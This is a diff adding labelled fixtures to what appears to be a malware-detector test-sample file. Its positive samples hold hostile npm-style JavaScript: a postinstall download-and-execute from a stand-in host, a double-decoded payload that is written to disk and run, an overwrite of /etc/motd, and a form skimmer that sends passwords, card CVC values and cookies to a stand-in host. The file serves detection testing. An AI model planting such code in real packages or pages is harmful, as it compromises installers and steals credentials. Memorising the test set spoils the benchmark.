@@ -980,3 +980,108 @@ SAMPLES["malicious-credential-access"]["benign"].append(
         ),
     }
 )
+
+# -- second round, after the held-out half was revealed (bench/vet_real_malware.py --reveal-holdout) --------
+
+_add(
+    "malicious-download-exec",
+    positive=[
+        {
+            # the helper fetches and writes, the caller runs the file (distube-fast)
+            "postinstall.js": (
+                "const http = require('http');\nconst fs = require('fs');\n"
+                "const { execFileSync } = require('child_process');\n"
+                "async function main() { await download('http://h.example.invalid/m.exe', 'm.exe'); "
+                "execFileSync('m.exe'); }\n"
+                "function download(url, dest) {\n"
+                "  return new Promise((resolve) => {\n"
+                "    const file = fs.createWriteStream(dest);\n"
+                "    http.get(url, (response) => { response.pipe(file); file.on('finish', resolve); });\n"
+                "  });\n"
+                "}\n"
+                "main();\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # a helper that downloads a data file; nothing runs it
+            "fetch-data.js": (
+                "const https = require('https');\nconst fs = require('fs');\n"
+                "function download(url, dest) {\n"
+                "  return new Promise((ok) => https.get(url, (r) => r.pipe(fs.createWriteStream(dest)).on('close', ok)));\n"
+                "}\n"
+                "download('https://data.example.invalid/tz.json', 'tz.json').then(() => console.log('ok'));\n"
+            ),
+        },
+    ],
+)
+_add(
+    "malicious-decode-exec",
+    positive=[
+        {
+            # a payload decoded twice, written next to the package and run with node (hlwgirl)
+            "index.js": (
+                "const { exec } = require('child_process');\nconst fs = require('fs');\nconst path = require('path');\n"
+                "const hex = '593239756332397352533573623263';\n"
+                "const b64 = Buffer.from(hex, 'hex').toString('utf-8');\n"
+                "const script = Buffer.from(b64, 'base64').toString('utf-8');\n"
+                "const target = path.join(__dirname, 'main.js');\n"
+                "fs.writeFileSync(target, script);\n"
+                "exec(`node ${target}`);\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # an image decoded and written; the process started is unrelated to it and in another function
+            "build.js": (
+                "const fs = require('fs');\nconst { execSync } = require('child_process');\n"
+                "function icon() { fs.writeFileSync('icon.png', Buffer.from('iVBORw0KGgo=', 'base64')); }\n"
+                "function version() { return execSync('git describe').toString(); }\n"
+                "module.exports = { icon, version };\n"
+            ),
+        },
+    ],
+)
+_add(
+    "malicious-destructive-write",
+    positive=[{"package.json": _HOOK.format(hook="postinstall", command="echo pwned > /etc/motd")}],
+    benign=[{"package.json": _HOOK.format(hook="postinstall", command="node build.js > build.log 2> /dev/null")}],
+)
+_add(
+    "malicious-credential-access",
+    positive=[
+        {
+            # a form skimmer in a library's bundle (device-mqtt, stream-combine)
+            "build/index.js": (
+                "var t = ['https://h.example.invalid/p?pl='];\n"
+                "for (var a = 0; a < document.forms.length; a++) {\n"
+                "  var s = document.forms[a].elements;\n"
+                "  for (var u = 0; u < s.length; u++) {\n"
+                "    if ('password' == s[u].type || 'cvc' == s[u].name.toLowerCase()) {\n"
+                "      document.forms[a].addEventListener('submit', function () {\n"
+                "        var n = '';\n"
+                "        for (var o = 0; o < this.elements.length; o++) n += this.elements[o].value + ':';\n"
+                "        this.action = t[0] + encodeURIComponent(btoa(n + '|' + document.cookie));\n"
+                "      });\n"
+                "    }\n"
+                "  }\n"
+                "}\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # a payment form that validates its own card fields and posts to its own endpoint
+            "card-form.js": (
+                "export function bind(form) {\n"
+                "  form.addEventListener('submit', (e) => {\n"
+                "    const cvc = form.querySelector('[name=\"cvc\"]').value;\n"
+                "    if (!/^\\d{3,4}$/.test(cvc)) e.preventDefault();\n"
+                "  });\n"
+                "}\n"
+            ),
+        },
+    ],
+)
